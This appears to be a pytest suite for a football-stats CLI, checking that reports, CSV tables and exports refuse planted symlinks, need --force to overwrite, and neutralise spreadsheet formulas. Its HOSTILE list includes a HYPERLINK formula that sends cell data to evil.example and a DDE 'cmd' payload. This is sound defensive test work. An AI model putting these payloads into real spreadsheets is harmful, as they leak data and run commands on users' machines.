"""Outputs written safely (issue 30, item 4): reports, CSV tables and exports never write
through a link planted at their target, never replace a file without --force, leave no
temporary file behind, and every CSV cell that a spreadsheet would run as a formula is inert."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from companion import outfiles
from companion.cli import main
from companion.outfiles import OutputRefused, Staged, csv_bytes, inert_cell, write_bytes, write_csv

DATA = Path(__file__).parent / "data"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\tTabbed", "\rReturn"]


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def one_error_line(err: str, *fragments: str) -> str:
    assert "Traceback" not in err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    for fragment in fragments:
        assert fragment in lines[0], lines[0]
    return lines[0]


def victim(tmp_path: Path) -> Path:
    v = tmp_path / "victim.txt"
    v.write_text("precious\n", encoding="utf-8")
    return v


def no_temporaries(folder: Path) -> None:
    assert [p.name for p in folder.iterdir() if p.name.endswith(".partial")] == []


def named_match(tmp_path: Path, home: str, away: str, name: str = "m.jsonl") -> Path:
    """The scripted Fußball-Liga match with other team names (an export without a chain)."""
    rows = []
    for line in (DATA / "fussball_liga_full_match.jsonl").read_text(encoding="utf-8").splitlines():
        row = json.loads(line)
        if row["type"].endswith(".match_created"):
            row["data"]["home"]["name"], row["data"]["away"]["name"] = home, away
        rows.append(json.dumps(row))
    path = tmp_path / name
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


# --- the writer ----------------------------------------------------------------------------------

def test_a_link_at_the_target_is_refused_with_or_without_force(tmp_path):
    v = victim(tmp_path)
    link = tmp_path / "out.csv"
    link.symlink_to(v)
    for force in (False, True):
        with pytest.raises(OutputRefused, match="symbolic link"):
            write_csv(link, ["a"], [["b"]], force=force)
    assert v.read_text(encoding="utf-8") == "precious\n" and link.is_symlink()
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "would-be-made.txt")
    with pytest.raises(OutputRefused, match="symbolic link"):
        write_bytes(dangling, b"x", force=True)
    assert not (tmp_path / "would-be-made.txt").exists()
    no_temporaries(tmp_path)


def test_an_existing_file_needs_force_and_a_non_file_is_refused(tmp_path):
    target = tmp_path / "t.csv"
    write_csv(target, ["a"], [[1]])
    with pytest.raises(OutputRefused, match="already exists.*--force"):
        write_csv(target, ["a"], [[2]])
    assert target.read_bytes() == b"a\r\n1\r\n"
    write_csv(target, ["a"], [[2]], force=True)
    assert target.read_bytes() == b"a\r\n2\r\n"
    (tmp_path / "d").mkdir()
    os.mkfifo(tmp_path / "fifo")
    for other in ("d", "fifo"):
        with pytest.raises(OutputRefused, match="not a regular file"):
            write_bytes(tmp_path / other, b"x", force=True)
    no_temporaries(tmp_path)


def test_a_link_planted_at_the_temporary_name_is_not_followed(tmp_path, monkeypatch):
    """The temporary file is made with O_EXCL|O_NOFOLLOW: a name planted in advance is skipped."""
    v = victim(tmp_path)
    tokens = iter(["aaaa", "bbbb"])
    monkeypatch.setattr(outfiles.secrets, "token_hex", lambda _n: next(tokens))
    (tmp_path / ".out.csv.aaaa.partial").symlink_to(v)
    write_csv(tmp_path / "out.csv", ["a"], [["b"]])
    assert v.read_text(encoding="utf-8") == "precious\n"
    assert (tmp_path / "out.csv").read_bytes() == b"a\r\nb\r\n"
    assert (tmp_path / ".out.csv.aaaa.partial").is_symlink()  # left as found
    assert not (tmp_path / ".out.csv.bbbb.partial").exists()


def test_a_staged_set_is_placed_whole_or_not_at_all(tmp_path):
    v = victim(tmp_path)
    (tmp_path / "b.csv").symlink_to(v)
    staged = Staged(tmp_path)
    staged.write_text("a.csv", "one")
    staged.write_text("b.csv", "two")
    with pytest.raises(OutputRefused, match="b.csv"):
        staged.commit()
    assert not (tmp_path / "a.csv").exists() and v.read_text(encoding="utf-8") == "precious\n"
    no_temporaries(tmp_path)


@pytest.mark.parametrize("cell", HOSTILE)
def test_cells_that_would_start_a_formula_are_made_inert(cell):
    assert inert_cell(cell) == "'" + cell
    row = next(csv.reader(io.StringIO(csv_bytes([cell], [[cell, -2, 3.5, None, "ok"]]).decode("utf-8"))))
    assert row == ["'" + cell]


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert [inert_cell(v) for v in (-2, 0, 3.5, "SV Rotstein", "2-0", "", None, True)] == \
        [-2, 0, 3.5, "SV Rotstein", "2-0", "", "", "True"]


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.lists(st.one_of(st.text(max_size=12), st.integers(-10**6, 10**6), st.none()),
                         min_size=1, max_size=4), min_size=1, max_size=6))
def test_no_cell_of_any_table_reads_back_as_a_formula(rows):
    """Whatever text goes in, no cell read back starts a formula, and dropping the quote gives
    the text back (numbers come back as their digits)."""
    text = csv_bytes(["h"], rows).decode("utf-8")
    back = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(back) == len(rows)
    for row_in, row_out in zip(rows, back):
        for v, cell in zip(row_in, row_out):
            if isinstance(v, int):
                assert cell == str(v)
                continue
            assert not cell.startswith(outfiles.FORMULA_STARTS)
            expected = "" if v is None else v
            assert (cell[1:] if cell != expected and cell.startswith("'") else cell) == expected


# --- the commands --------------------------------------------------------------------------------

def test_report_refuses_a_link_planted_in_its_folder_and_writes_nothing(capsys, tmp_path):
    v = victim(tmp_path)
    out = tmp_path / "r"
    out.mkdir()
    (out / "stats.csv").symlink_to(v)
    for extra in ([], ["--force"]):
        code, _, err = run(capsys, "report", DATA / "futboard_full_match.jsonl", "--out", out, *extra)
        assert code == 2
        one_error_line(err, "stats.csv", "symbolic link")
    assert v.read_text(encoding="utf-8") == "precious\n"
    assert sorted(p.name for p in out.iterdir()) == ["stats.csv"]  # nothing else written, no temporaries


def test_report_refuses_a_link_as_its_folder(capsys, tmp_path):
    real = tmp_path / "elsewhere"
    real.mkdir()
    (tmp_path / "r").symlink_to(real)
    code, _, err = run(capsys, "report", DATA / "futboard_full_match.jsonl", "--out", tmp_path / "r")
    assert code == 2
    one_error_line(err, "symbolic link")
    assert list(real.iterdir()) == []


def test_report_into_a_folder_holding_a_report_needs_force(capsys, tmp_path):
    out = tmp_path / "r"
    assert run(capsys, "report", DATA / "futboard_full_match.jsonl", "--out", out)[0] == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    code, _, err = run(capsys, "report", DATA / "fublet_full_match.jsonl", "--out", out)
    assert code == 2
    one_error_line(err, "already exists", "--force")
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    code, _, err = run(capsys, "report", DATA / "fublet_full_match.jsonl", "--out", out, "--force")
    assert code == 0, err
    assert json.loads((out / "report.json").read_text(encoding="utf-8"))["game"] == "fublet"
    no_temporaries(out)


def test_report_csv_tables_carry_hostile_team_names_inert(capsys, tmp_path):
    match = named_match(tmp_path, HOSTILE[0], HOSTILE[3])
    code, _, err = run(capsys, "report", match, "--out", tmp_path / "r")
    assert code == 0, err
    seen = []
    for table in (tmp_path / "r").glob("*.csv"):
        with open(table, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if re.fullmatch(r"-?\d+(\.\d+)?", cell):
                        continue  # a number the report computed (-1 on a heat map's edge)
                    assert not cell.startswith(outfiles.FORMULA_STARTS), (table.name, cell)
                    seen.append(cell)
    assert any(HOSTILE[0] in cell for cell in seen) and any(HOSTILE[3] in cell for cell in seen)


def test_history_csv_refuses_links_and_existing_files_and_writes_inert_cells(capsys, tmp_path):
    folder = tmp_path / "matches"
    folder.mkdir()
    named_match(folder, HOSTILE[0], HOSTILE[1], "a.jsonl")
    v = victim(tmp_path)
    link = tmp_path / "history.csv"
    link.symlink_to(v)
    for extra in ([], ["--force"]):
        code, _, err = run(capsys, "history", "--folder", folder, "--csv", link, *extra)
        assert code == 2
        one_error_line(err, "history.csv", "symbolic link")
    assert v.read_text(encoding="utf-8") == "precious\n"
    target = tmp_path / "h.csv"
    assert run(capsys, "history", "--folder", folder, "--csv", target)[0] == 0
    with open(target, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][2:4] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]
    code, _, err = run(capsys, "history", "--folder", folder, "--csv", target)
    assert code == 2
    one_error_line(err, "h.csv", "--force")
    assert run(capsys, "history", "--folder", folder, "--csv", target, "--force")[0] == 0
    no_temporaries(tmp_path)


def test_league_csv_refuses_a_link_at_any_of_its_three_files_and_writes_none(capsys, tmp_path):
    folder = tmp_path / "matches"
    folder.mkdir()
    named_match(folder, "=cmd", "Kickers", "a.jsonl")
    v = victim(tmp_path)
    (tmp_path / "league-records.csv").symlink_to(v)
    code, _, err = run(capsys, "league", "--folder", folder, "--csv", tmp_path / "league.csv", "--force")
    assert code == 2
    one_error_line(err, "league-records.csv", "symbolic link")
    assert v.read_text(encoding="utf-8") == "precious\n"
    assert not (tmp_path / "league.csv").exists() and not (tmp_path / "league-head-to-head.csv").exists()
    (tmp_path / "league-records.csv").unlink()
    assert run(capsys, "league", "--folder", folder, "--csv", tmp_path / "league.csv")[0] == 0
    text = "".join(p.read_text(encoding="utf-8") for p in tmp_path.glob("league*.csv"))
    assert "'=cmd" in text and "\n=cmd" not in text and ",=cmd" not in text


def test_export_refuses_a_link_at_its_target_even_with_force(capsys, tmp_path):
    from journal_fixtures import journal_of  # the fixture has no chain: an import would need --accept-altered

    journal = journal_of(DATA / "futboard_full_match.jsonl", tmp_path / "m.sqlite")
    v = victim(tmp_path)
    link = tmp_path / "out.jsonl"
    link.symlink_to(v)
    for extra in ([], ["--force"]):
        code, _, err = run(capsys, "export", journal, link, *extra)
        assert code == 2
        one_error_line(err, "out.jsonl", "symbolic link")
    assert v.read_text(encoding="utf-8") == "precious\n"
    target = tmp_path / "real.jsonl"
    assert run(capsys, "export", journal, target)[0] == 0
    assert run(capsys, "export", journal, target)[0] == 2
    assert run(capsys, "export", journal, target, "--force")[0] == 0
    no_temporaries(tmp_path)


def test_a_csv_table_is_written_as_its_rows_come_not_held_whole(tmp_path):
    """A season's history (``touchline history --csv``) goes to disk a row at a time: while
    the last of 3,000 rows is asked for, its temporary file already holds most of the table.
    The file put in place holds the bytes ``csv_bytes`` makes of the same rows."""
    def row(i: int) -> list:
        return [f"2026-12-{i % 28 + 1:02d}", "=SV Rotstein", i, -i, None, "FC Gruenwald"]

    written_before_the_end: list[int] = []

    def rows():
        for i in range(3000):
            if i == 2999:
                written_before_the_end.extend(p.stat().st_size for p in tmp_path.glob(".history.csv.*.partial"))
            yield row(i)

    write_csv(tmp_path / "history.csv", ["date", "home", "n", "d", "none", "away"], rows())
    whole = csv_bytes(["date", "home", "n", "d", "none", "away"], (row(i) for i in range(3000)))
    assert (tmp_path / "history.csv").read_bytes() == whole
    assert len(written_before_the_end) == 1 and written_before_the_end[0] > len(whole) // 2, written_before_the_end
    no_temporaries(tmp_path)


def test_a_csv_table_that_fails_midway_leaves_no_file_and_no_temporary(tmp_path):
    def rows():
        yield ["a", 1]
        raise RuntimeError("the listing broke")

    with pytest.raises(RuntimeError):
        write_csv(tmp_path / "history.csv", ["h", "n"], rows())
    assert not (tmp_path / "history.csv").exists()
    no_temporaries(tmp_path)
